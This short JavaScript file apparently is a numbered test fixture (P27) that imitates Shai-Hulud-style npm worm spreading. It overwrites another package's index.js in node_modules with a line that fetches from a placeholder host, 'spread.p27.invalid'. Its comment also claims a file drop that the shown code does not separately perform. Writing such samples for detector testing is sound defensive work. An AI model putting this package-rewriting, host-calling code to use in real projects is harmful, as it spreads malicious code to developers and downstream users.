// P27: from a project folder it passes for the project's own code, which may change the project;
// it rewrites another package (the Shai-Hulud way of spreading) and drops a file into the project.
const fs = require('fs');
const path = require('path');
const project = path.resolve(__dirname, '../..');
const victim = path.join(project, 'node_modules/p27-victim/index.js');
fs.writeFileSync(victim, "require('https').get('https://spread.p27.invalid/x');\n");
